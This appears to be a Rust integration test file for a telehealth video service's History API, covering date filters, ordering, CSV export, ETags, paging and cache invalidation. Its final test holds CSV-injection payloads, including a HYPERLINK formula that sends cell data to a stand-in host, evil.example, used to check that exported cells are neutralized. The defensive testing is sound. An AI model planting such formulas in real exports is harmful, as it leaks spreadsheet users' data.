//! The History API's filters, order, formats, validators and paging (SPEC §4).

use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::helpers::{Tenant, TestApp, event, participant_event, spawn_app};

const COMPANY: &str = r#"{"Type":"Company","CompanyId":1,"Name":"Clinic"}
{"Type":"User","CompanyId":1,"UserId":2,"FullName":"Ann Host","EmailAddress":"ann@clinic.example"}
{"Type":"User","CompanyId":1,"UserId":3,"FullName":"Bob Host","EmailAddress":"bob@clinic.example"}
"#;

fn session_line(
    session_id: i64,
    user_id: i64,
    schedule: &str,
    guest_id: i64,
    guest: &str,
    email: &str,
) -> String {
    json!({
        "Type": "Session", "CompanyId": 1, "SessionId": session_id, "UserId": user_id,
        "ScheduleTs": schedule, "ScheduleType": "Scheduled",
        "Participants": [
            {"ParticipationId": guest_id + 500_000, "SecureVideoUserId": user_id},
            {"ParticipationId": guest_id, "ParticipantFullName": guest, "ParticipantEmailAddress": email}
        ]
    })
    .to_string()
}

/// Host and guest meet from `start` for `minutes` minutes.
async fn meet(app: &TestApp, session_id: i64, guest_id: i64, start: &str, end: &str) {
    let events = json!([
        event(
            &format!("{session_id}-h-in"),
            session_id,
            "Connect",
            "Host",
            "h",
            start
        ),
        participant_event(
            &format!("{session_id}-g-in"),
            session_id,
            "Connect",
            guest_id,
            "g",
            start
        ),
        participant_event(
            &format!("{session_id}-g-out"),
            session_id,
            "Disconnect",
            guest_id,
            "g",
            end
        ),
        event(
            &format!("{session_id}-h-out"),
            session_id,
            "Disconnect",
            "Host",
            "h",
            end
        ),
    ]);
    assert_eq!(app.post_events(events).await.status(), 200);
}

fn ids(history: &Value) -> Vec<i64> {
    history
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["SessionId"].as_i64().unwrap())
        .collect()
}

async fn clinic() -> (TestApp, Tenant) {
    let app = spawn_app().await;
    let lines = [
        COMPANY.to_owned(),
        session_line(
            10,
            2,
            "2016-10-31T23:45:00",
            20,
            "Carl Guest",
            "carl@x.example",
        ),
        session_line(
            11,
            2,
            "2016-11-01T00:00:00",
            21,
            "Dora Guest",
            "dora@x.example",
        ),
        session_line(
            12,
            3,
            "2016-11-15T10:00:00",
            22,
            "Carl Guest",
            "carl@x.example",
        ),
        session_line(
            13,
            3,
            "2016-12-01T09:00:00",
            23,
            "Eve Guest",
            "eve@x.example",
        ),
        session_line(
            14,
            2,
            "2016-11-20T09:00:00",
            24,
            "Finn Guest",
            "finn@x.example",
        ),
    ]
    .join("\n");
    app.import(&lines).await;
    // 10 becomes billable in the last microsecond of October, 11 at the first
    // instant of November; 13 never connects; 14 is billable before 12.
    meet(
        &app,
        10,
        20,
        "2016-10-31T23:59:59.999999",
        "2016-11-01T00:20:00",
    )
    .await;
    meet(&app, 11, 21, "2016-11-01T00:00:00", "2016-11-01T00:30:00").await;
    meet(&app, 12, 22, "2016-11-15T10:00:00", "2016-11-15T10:30:00").await;
    meet(&app, 14, 24, "2016-11-14T09:00:00", "2016-11-14T09:10:00").await;
    let tenant = app.key_for(1).await;
    (app, tenant)
}

#[tokio::test]
async fn months_are_utc_calendar_months() {
    let (app, tenant) = clinic().await;
    assert_eq!(
        ids(&app.history(&tenant, "/history?month=2016-10-01").await),
        vec![10]
    );
    assert_eq!(
        ids(&app.history(&tenant, "/history?month=2016-11-01").await),
        vec![11, 14, 12]
    );
    // Any day of the month, and the short form, select the same month.
    assert_eq!(
        ids(&app.history(&tenant, "/history?MONTH=2016-11-30").await),
        vec![11, 14, 12]
    );
    assert_eq!(
        ids(&app.history(&tenant, "/history?month=2016-11").await),
        vec![11, 14, 12]
    );
    assert_eq!(
        ids(&app.history(&tenant, "/history?month=2016-12-01").await),
        Vec::<i64>::new()
    );
}

#[tokio::test]
async fn without_a_date_filter_every_session_comes_back_billable_first() {
    let (app, tenant) = clinic().await;
    let all = app.history(&tenant, "/history").await;
    assert_eq!(ids(&all), vec![10, 11, 14, 12, 13]);
    let never_connected = &all[4];
    assert_eq!(never_connected["BillableTs"], Value::Null);
    assert_eq!(never_connected["DurationMinutes"], Value::Null);
    assert_eq!(never_connected["BillableStatusCd"], Value::Null);
    assert_eq!(
        never_connected["UsageDescription"],
        "Bob Host Session #13 - Not Connected"
    );
    // Every element has exactly the seven keys.
    for session in all.as_array().unwrap() {
        assert_eq!(session.as_object().unwrap().len(), 7);
    }
}

#[tokio::test]
async fn start_and_end_days_are_inclusive_and_month_wins() {
    let (app, tenant) = clinic().await;
    let range = app
        .history(&tenant, "/history?StartDt=2016-11-01&EndDt=2016-11-14")
        .await;
    assert_eq!(ids(&range), vec![11, 14]);
    let open_end = app.history(&tenant, "/history?startdt=2016-11-14").await;
    assert_eq!(ids(&open_end), vec![14, 12]);
    let open_start = app.history(&tenant, "/history?enddt=2016-10-31").await;
    assert_eq!(ids(&open_start), vec![10]);
    let month_wins = app
        .history(
            &tenant,
            "/history?month=2016-10-01&StartDt=2016-11-01&EndDt=2016-11-30",
        )
        .await;
    assert_eq!(ids(&month_wins), vec![10]);
}

#[tokio::test]
async fn one_hosts_history_and_foreign_or_unknown_users() {
    let (app, tenant) = clinic().await;
    assert_eq!(ids(&app.history(&tenant, "/history/3").await), vec![12, 13]);
    assert_eq!(
        ids(&app.history(&tenant, "/history/2?month=2016-11-01").await),
        vec![11, 14]
    );
    let unknown = app.tenant(&tenant, "/history/999").send().await.unwrap();
    assert_eq!(unknown.status(), StatusCode::NOT_FOUND);
    assert_eq!(
        unknown.json::<Value>().await.unwrap(),
        json!({"Message": "User not found"})
    );

    // Another company's user is indistinguishable from a missing one.
    app.import(r#"{"Type":"Company","CompanyId":50,"Name":"Other"}
{"Type":"User","CompanyId":50,"UserId":51,"FullName":"Olga Other","EmailAddress":"olga@other.example"}"#)
        .await;
    let foreign = app.tenant(&tenant, "/history/51").send().await.unwrap();
    assert_eq!(foreign.status(), StatusCode::NOT_FOUND);
    assert_eq!(
        foreign.json::<Value>().await.unwrap(),
        json!({"Message": "User not found"})
    );
}

#[tokio::test]
async fn a_participant_is_found_by_current_email_including_earlier_addresses() {
    // The seed's example: Alex Alexis had aa@example.com and now has aa@changed.com.
    let app = spawn_app().await;
    let lines = [
        COMPANY.to_owned(),
        session_line(
            30,
            2,
            "2016-11-02T10:00:00",
            40,
            "Alex Alexis",
            "aa@example.com",
        ),
        session_line(
            31,
            3,
            "2016-11-03T10:00:00",
            41,
            "Alex Alexis",
            "aa@example.com",
        ),
        session_line(
            32,
            2,
            "2016-11-20T10:00:00",
            42,
            " alex alexis ",
            "AA@Changed.com",
        ),
        session_line(
            33,
            2,
            "2016-11-21T10:00:00",
            43,
            "Someone Else",
            "someone@example.com",
        ),
    ]
    .join("\n");
    app.import(&lines).await;
    meet(&app, 30, 40, "2016-11-02T10:00:00", "2016-11-02T10:30:00").await;
    meet(&app, 31, 41, "2016-11-03T10:00:00", "2016-11-03T10:30:00").await;
    meet(&app, 32, 42, "2016-11-20T10:00:00", "2016-11-20T10:30:00").await;
    meet(&app, 33, 43, "2016-11-21T10:00:00", "2016-11-21T10:30:00").await;
    let tenant = app.key_for(1).await;

    let current = app
        .history(
            &tenant,
            "/history?month=2016-11-01&participantEmail=aa@changed.com",
        )
        .await;
    assert_eq!(ids(&current), vec![30, 31, 32]);
    let spaced = app
        .history(&tenant, "/history?ParticipantEmail=%20AA%40CHANGED.COM%20")
        .await;
    assert_eq!(ids(&spaced), vec![30, 31, 32]);
    // The old address is nobody's current address any more.
    let old = app
        .history(&tenant, "/history?participantEmail=aa@example.com")
        .await;
    assert_eq!(ids(&old), Vec::<i64>::new());
    // A host's current address matches the sessions it hosted.
    let host = app
        .history(&tenant, "/history?participantEmail=bob@clinic.example")
        .await;
    assert_eq!(ids(&host), vec![31]);
    let by_host = app
        .history(&tenant, "/history/3?participantEmail=aa@changed.com")
        .await;
    assert_eq!(ids(&by_host), vec![31]);
}

#[tokio::test]
async fn csv_download_has_the_same_rows() {
    let (app, tenant) = clinic().await;
    let response = app
        .tenant(&tenant, "/history?month=2016-11-01")
        .header("Accept", "text/csv")
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    assert_eq!(
        response.headers()["content-type"],
        "text/csv; charset=utf-8"
    );
    assert_eq!(
        response.headers()["content-disposition"],
        "attachment; filename=\"history-2016-11.csv\""
    );
    let text = response.text().await.unwrap();
    let lines: Vec<&str> = text.split("\r\n").collect();
    assert_eq!(
        lines[0],
        "SessionId,ScheduleTs,BillableTs,DurationMinutes,BillableStatusCd,UserId,UsageDescription"
    );
    assert_eq!(
        lines[1],
        "11,2016-11-01T00:00:00,2016-11-01T00:00:00,30,BILL,2,Ann Host Session #11 with Dora Guest - Counted Session"
    );
    assert_eq!(
        lines.len(),
        5,
        "header, three rows and the final line break: {text:?}"
    );

    let all = app
        .tenant(&tenant, "/history?format=csv")
        .send()
        .await
        .unwrap();
    assert_eq!(
        all.headers()["content-disposition"],
        "attachment; filename=\"history.csv\""
    );
    let text = all.text().await.unwrap();
    assert!(
        text.contains("\r\n13,2016-12-01T09:00:00,,,,3,Bob Host Session #13 - Not Connected\r\n"),
        "{text}"
    );
}

#[tokio::test]
async fn etag_answers_304_until_the_data_changes() {
    let (app, tenant) = clinic().await;
    let first = app
        .tenant(&tenant, "/history?month=2016-11-01")
        .send()
        .await
        .unwrap();
    let tag = first.headers()["etag"].to_str().unwrap().to_owned();
    let again = app
        .tenant(&tenant, "/history?month=2016-11-01")
        .header("If-None-Match", &tag)
        .send()
        .await
        .unwrap();
    assert_eq!(again.status(), StatusCode::NOT_MODIFIED);
    assert_eq!(again.headers()["etag"], tag.as_str());
    // Another filter is another document.
    let other = app
        .tenant(&tenant, "/history?month=2016-10-01")
        .send()
        .await
        .unwrap();
    assert_ne!(other.headers()["etag"].to_str().unwrap(), tag);
    // A change to the company's sessions changes the tag.
    let events = json!([event(
        "late",
        13,
        "Connect",
        "Host",
        "h",
        "2016-12-01T09:00:00"
    )]);
    assert_eq!(app.post_events(events).await.status(), 200);
    let changed = app
        .tenant(&tenant, "/history?month=2016-11-01")
        .header("If-None-Match", &tag)
        .send()
        .await
        .unwrap();
    assert_eq!(changed.status(), StatusCode::OK);
    assert_ne!(changed.headers()["etag"].to_str().unwrap(), tag);
}

#[tokio::test]
async fn limit_pages_through_the_whole_list_with_link_headers() {
    let (app, tenant) = clinic().await;
    let mut next = Some("/history?limit=2".to_owned());
    let mut pages = Vec::new();
    while let Some(path) = next.take() {
        let response = app.tenant(&tenant, &path).send().await.unwrap();
        assert_eq!(response.status(), 200);
        next = response.headers().get("link").map(|link| {
            let link = link.to_str().unwrap();
            assert!(link.ends_with("; rel=\"next\""), "{link}");
            link[1..link.find('>').unwrap()].to_owned()
        });
        pages.push(ids(&response.json::<Value>().await.unwrap()));
    }
    assert_eq!(pages, vec![vec![10, 11], vec![14, 12], vec![13]]);
    // Filters carry over to the next page.
    let response = app
        .tenant(&tenant, "/history?month=2016-11-01&Limit=1")
        .send()
        .await
        .unwrap();
    let link = response.headers()["link"].to_str().unwrap().to_owned();
    assert!(link.contains("month=2016-11-01"), "{link}");
    let unlimited = app.history(&tenant, "/history").await;
    assert_eq!(ids(&unlimited).len(), 5);
}

#[tokio::test]
async fn large_histories_stream_completely() {
    let app = spawn_app().await;
    let mut lines = vec![COMPANY.to_owned()];
    for n in 0..1_200i64 {
        let day = 1 + n % 28;
        let schedule = format!(
            "2016-11-{day:02}T{:02}:{:02}:00",
            8 + (n / 28) % 12,
            15 * ((n / 336) % 4)
        );
        lines.push(session_line(
            1_000 + n,
            2 + n % 2,
            &schedule,
            10_000 + n,
            "Gus Guest",
            "gus@x.example",
        ));
    }
    app.import(&lines.join("\n")).await;
    let tenant = app.key_for(1).await;
    let all = app.history(&tenant, "/history").await;
    let got = ids(&all);
    assert_eq!(got.len(), 1_200);
    let mut sorted = all.as_array().unwrap().clone();
    sorted.sort_by_key(|s| {
        (
            s["ScheduleTs"].as_str().unwrap().to_owned(),
            s["SessionId"].as_i64().unwrap(),
        )
    });
    assert_eq!(
        ids(&Value::Array(sorted)),
        got,
        "unbillable sessions come in ScheduleTs order"
    );
}

/// The body of a read and its ETag.
async fn read_with_tag(app: &TestApp, tenant: &Tenant, path: &str) -> (String, String) {
    let response = app.tenant(tenant, path).send().await.unwrap();
    assert_eq!(response.status(), StatusCode::OK, "GET {path}");
    let tag = response.headers()["etag"].to_str().unwrap().to_owned();
    (response.text().await.unwrap(), tag)
}

/// The operator comps session 12 (Carl Guest's) through `node`.
async fn comp_session_12(node: &TestApp) {
    let comp = node
        .operator(reqwest::Method::POST, "/operator/sessions/12/comp")
        .json(&json!({ "Reason": "Video trouble" }))
        .send()
        .await
        .unwrap();
    assert_eq!(comp.status(), StatusCode::NO_CONTENT);
}

#[tokio::test]
async fn kept_answers_are_never_served_once_the_data_changed() {
    let (app, tenant) = clinic().await;
    let paths = [
        "/history?month=2016-11-01",
        "/history?month=2016-11-01&format=csv",
        "/history/3?month=2016-11-01",
        "/history?participantEmail=carl@x.example",
        "/history",
    ];
    let mut before = Vec::new();
    for path in paths {
        let first = read_with_tag(&app, &tenant, path).await;
        // The second read is the kept answer: the same bytes, the same tag.
        assert_eq!(read_with_tag(&app, &tenant, path).await, first, "{path}");
        let kept = app
            .tenant(&tenant, path)
            .header("If-None-Match", &first.1)
            .send()
            .await
            .unwrap();
        assert_eq!(kept.status(), StatusCode::NOT_MODIFIED, "{path}");
        before.push(first);
    }
    assert!(
        before[0]
            .0
            .contains("Bob Host Session #12 with Carl Guest - Counted Session")
    );

    // Comping session 12 changes every one of those answers.
    comp_session_12(&app).await;
    for (path, (old_body, old_tag)) in paths.iter().zip(&before) {
        let (body, tag) = read_with_tag(&app, &tenant, path).await;
        assert_ne!(&tag, old_tag, "{path}");
        assert_ne!(&body, old_body, "{path}");
        assert!(
            body.contains("Session #12 with Carl Guest - Comped by SecureVideo.com"),
            "{path}: {body}"
        );
    }
}

/// A node reuses a key while no change to keys was committed, and a data
/// version (with the answers kept at it) while nothing at all was: another
/// node's change to the data ends the second, its revocation the first. On
/// PostgreSQL, where nodes share a database, the very next request after
/// the other node answered sees the change (SPEC §11); another process's
/// commit to a SQLite file is seen within one poll (50 ms).
#[tokio::test]
async fn another_nodes_changes_end_what_this_node_reuses() {
    let (app, tenant) = clinic().await;
    let other = app.another_node().await;
    let path = "/history?month=2016-11-01";
    let (before, _) = read_with_tag(&app, &tenant, path).await;
    assert_eq!(read_with_tag(&app, &tenant, path).await.0, before, "kept");
    assert!(before.contains("Session #12 with Carl Guest - Counted Session"));
    let comped = "Session #12 with Carl Guest - Comped by SecureVideo.com";
    let counted = "Session #12 with Carl Guest - Counted Session";

    // Comp and uncomp through the other node, reading through this one
    // after each answer: never the answer before the change.
    for round in 0..10 {
        let (action, method, expected) = if round % 2 == 0 {
            ("comp", reqwest::Method::POST, comped)
        } else {
            ("uncomp", reqwest::Method::DELETE, counted)
        };
        let change = other
            .operator(method, "/operator/sessions/12/comp")
            .json(&json!({ "Reason": "Video trouble" }))
            .send()
            .await
            .unwrap();
        assert_eq!(change.status(), StatusCode::NO_CONTENT, "{action}");
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
        loop {
            let (body, _) = read_with_tag(&app, &tenant, path).await;
            if body.contains(expected) {
                break;
            }
            if crate::backend::POSTGRES {
                panic!(
                    "round {round}: this node served the answer from before the other node's {action}"
                );
            }
            assert!(
                std::time::Instant::now() < deadline,
                "the other node's {action} is not seen 10 s later"
            );
            tokio::time::sleep(std::time::Duration::from_millis(20)).await;
        }
    }

    let revoke = other
        .operator(
            reqwest::Method::DELETE,
            &format!("/operator/keys/{}", tenant.api_key),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(revoke.status(), StatusCode::NO_CONTENT);
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    loop {
        let status = app.tenant(&tenant, path).send().await.unwrap().status();
        if status == StatusCode::UNAUTHORIZED {
            break;
        }
        assert_eq!(status, StatusCode::OK);
        if crate::backend::POSTGRES {
            panic!("the key revoked by the other node still works on this one");
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the key revoked by the other node still works 10 s later"
        );
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    other.stop().await;
}

#[tokio::test]
async fn kept_answers_belong_to_their_company_request_and_format() {
    let (app, tenant) = clinic().await;
    let other_company = app.create_company("Other Clinic").await;
    let other = app.create_key(other_company).await;
    let november = read_with_tag(&app, &tenant, "/history?month=2016-11-01").await;
    assert_eq!(
        ids(&serde_json::from_str(&november.0).unwrap()),
        [11, 14, 12]
    );
    // The same request by another company, another month, another host,
    // another format: never the kept answer of the first.
    assert_eq!(
        app.history(&other, "/history?month=2016-11-01").await,
        json!([])
    );
    let october = app.history(&tenant, "/history?month=2016-10-01").await;
    assert_eq!(ids(&october), [10]);
    assert_eq!(
        ids(&app.history(&tenant, "/history/2?month=2016-11-01").await),
        [11, 14]
    );
    let csv = app
        .tenant(&tenant, "/history?month=2016-11-01")
        .header("Accept", "text/csv")
        .send()
        .await
        .unwrap();
    assert!(
        csv.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    assert!(
        csv.text()
            .await
            .unwrap()
            .starts_with("SessionId,ScheduleTs")
    );
    // A page is never kept, nor served from a whole answer.
    let page = app
        .tenant(&tenant, "/history?month=2016-11-01&limit=1")
        .send()
        .await
        .unwrap();
    assert!(page.headers().contains_key("link"));
    assert_eq!(ids(&page.json().await.unwrap()), [11]);
    assert_eq!(
        read_with_tag(&app, &tenant, "/history?month=2016-11-01").await,
        november
    );
}

#[tokio::test]
async fn without_kept_answers_reads_are_the_same() {
    let app = crate::helpers::spawn_app_with(|settings| settings.history_cache_mb = 0).await;
    app.import(COMPANY).await;
    app.import(&session_line(
        10,
        2,
        "2016-11-03T10:00:00",
        20,
        "Carl Guest",
        "carl@x.example",
    ))
    .await;
    meet(&app, 10, 20, "2016-11-03T10:00:00", "2016-11-03T10:20:00").await;
    let tenant = app.key_for(1).await;
    let first = read_with_tag(&app, &tenant, "/history?month=2016-11-01").await;
    assert_eq!(
        read_with_tag(&app, &tenant, "/history?month=2016-11-01").await,
        first
    );
    assert_eq!(ids(&serde_json::from_str(&first.0).unwrap()), [10]);
}

/// A host (the session's first participant) named as a formula a
/// spreadsheet would run (OWASP's CSV injection) starts its CSV cell with a
/// single quote; JSON keeps the name as it is.
#[tokio::test]
async fn csv_cells_that_would_run_as_formulas_are_neutralized() {
    let app = spawn_app().await;
    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"Click")"#;
    let lines = [
        r#"{"Type":"Company","CompanyId":1,"Name":"Clinic"}"#.to_owned(),
        json!({"Type": "User", "CompanyId": 1, "UserId": 2, "FullName": formula,
               "EmailAddress": "f@clinic.example"})
        .to_string(),
        json!({"Type": "User", "CompanyId": 1, "UserId": 3, "FullName": "-2+3",
               "EmailAddress": "m@clinic.example"})
        .to_string(),
        session_line(11, 2, "2016-11-01T00:00:00", 1, "@SUM(1+1)", "s@x.example"),
        session_line(12, 3, "2016-11-02T00:00:00", 2, "Dora Guest", "d@x.example"),
    ];
    app.import(&format!("{}\n", lines.join("\n"))).await;
    let tenant = app.key_for(1).await;
    let text = app
        .tenant(&tenant, "/history?format=csv")
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let rows: Vec<&str> = text.split("\r\n").collect();
    assert_eq!(
        rows[1],
        r#"11,2016-11-01T00:00:00,,,,2,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"") Session #11 - Not Connected""#
    );
    assert_eq!(
        rows[2],
        "12,2016-11-02T00:00:00,,,,3,'-2+3 Session #12 - Not Connected"
    );
    let json = app.history(&tenant, "/history").await;
    assert_eq!(
        json[0]["UsageDescription"],
        format!("{formula} Session #11 - Not Connected")
    );
}
